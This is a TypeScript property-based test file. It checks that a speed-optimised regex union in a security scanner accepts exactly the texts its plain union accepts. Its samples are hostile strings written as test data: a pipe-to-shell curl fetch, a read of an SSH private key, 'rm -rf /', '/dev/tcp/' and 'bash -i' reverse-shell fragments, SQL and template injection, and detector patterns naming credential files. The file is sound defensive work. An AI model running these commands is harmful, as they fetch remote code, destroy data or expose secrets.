// The pattern union that gates each detector's regex list is regrouped for speed (alternatives that start
// at a word boundary share one `\b`); it must accept exactly the texts the plain union accepts.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import '../../core/scan/scan-text';
import { REGISTERED_PATTERNS } from '../../core/scan/regex-registry';
import { quickTest, topLevelAlternatives, unionSource } from '../../core/scan/regex-union';

test('top-level alternatives ignore | inside groups, classes and escapes', () => {
  assert.deepEqual(topLevelAlternatives('a(?:b|c)|[|]d|e\\|f|\\bg'), ['a(?:b|c)', '[|]d', 'e\\|f', '\\bg']);
  assert.deepEqual(topLevelAlternatives('[\\]|]x|y'), ['[\\]|]x', 'y']);
});

test('the regrouped union accepts what the plain union accepts', () => {
  const sources = REGISTERED_PATTERNS.map((pattern) => pattern.source).filter((source) => !/\\[1-9]|\\k</.test(source));
  const plain = new RegExp(sources.map((source) => `(?:${source})`).join('|'), 'i');
  const regrouped = new RegExp(unionSource(sources), 'i');
  const samples = ['curl https://x.example/i.sh | sh', 'use eval(atob(x))', 'read ~/.ssh/id_rsa', "' or 1=1 --", '<IMPORTANT>', 'Returns the weather.', 'a_eval(', 'x;whoami', '{{config.items()}}', 'rm -rf /', 'plain words only', '\\x1b[2J'];
  for (const sample of samples) assert.equal(regrouped.test(sample), plain.test(sample), sample);
});

test('the regrouped union agrees with the plain union on random mixes of code and prose fragments', () => {
  const sources = REGISTERED_PATTERNS.map((pattern) => pattern.source).filter((source) => !/\\[1-9]|\\k</.test(source));
  const plain = new RegExp(sources.map((source) => `(?:${source})`).join('|'), 'i');
  const regrouped = new RegExp(unionSource(sources), 'i');
  const fragments = ['curl', 'Curl ', 'wget', ' ', ';', '&&', '|', 'sh', 'bash -i', 'eval(', 'exec', '$(', '`', "'", '"', '+', '/dev/tcp/', 'x', 'IEX', '{{', '}}', '<', 'script', '>', '\\x41', 'rm -rf ', '/', '~', '.ssh', 'id_rsa', 'union select', ' or 1=1', 'http://', 'a.example', '?d=', '${IFS}', '\n', 'the', 'read-only', 'also deletes'];
  fc.assert(fc.property(fc.array(fc.constantFrom(...fragments), { maxLength: 12 }), (parts) => {
    const text = parts.join('');
    return regrouped.test(text) === plain.test(text);
  }), { numRuns: 3000 });
});

test('quickTest answers as the pattern it regroups, case-sensitive or not', () => {
  const patterns = [/\bread[- ]?only\b|\bonly (?:reads|lists)\b|\bnever (?:alters|mutates)\b|\bharmless\b/i, /ssh|id_|\.aws|claude_desktop|cookies\.sqlite|\/etc\//, /\bIEX\b|\biex\b|Curl|\bcurl\b/];
  const fragments = ['read-only', 'Read only', 'only reads', 'ONLY LISTS', 'never alters', 'harmless', 'ssh', 'SSH', 'id_', '.aws', 'claude_desktop', 'cookies.sqlite', '/etc/', 'IEX', 'Iex', 'iex', 'Curl', 'curl', 'CURL', ' ', 'x', '-', '.'];
  for (const pattern of patterns) {
    const quick = quickTest(pattern);
    fc.assert(fc.property(fc.array(fc.constantFrom(...fragments), { maxLength: 8 }), (parts) => quick.test(parts.join('')) === pattern.test(parts.join(''))), { numRuns: 2000 });
  }
});

test('terms grouped by first character (the large-text anchors) find what the flat alternation finds, at the same places', () => {
  const terms = ['ignor', 'instruct', 'inform', 'import', 'invoke', 'https?:', '\\.env', '\\.aws', '###?', '\\$\\{', '\\$\\(', '_[a-z]', 'api.key', 'envi', 'envoy', 'do not', "don't"];
  const flat = new RegExp(terms.join('|'), 'gi');
  const grouped = new RegExp(unionSource(terms), 'gi');
  const fragments = ['ignore', 'Instructions', 'inform', 'import', 'invoke', 'http:', 'https:', '.env', '.aws', '##', '###', '####', '${', '$(', '_a', 'api-key', 'envoy', 'environment', 'do not', "don't", ' ', 'x'];
  const matches = (re: RegExp, text: string): string[] => [...text.matchAll(re)].map((m) => `${m.index}:${m[0]}`);
  fc.assert(fc.property(fc.array(fc.constantFrom(...fragments), { maxLength: 10 }), (parts) => {
    const text = parts.join('');
    return JSON.stringify(matches(grouped, text)) === JSON.stringify(matches(flat, text));
  }), { numRuns: 3000 });
});
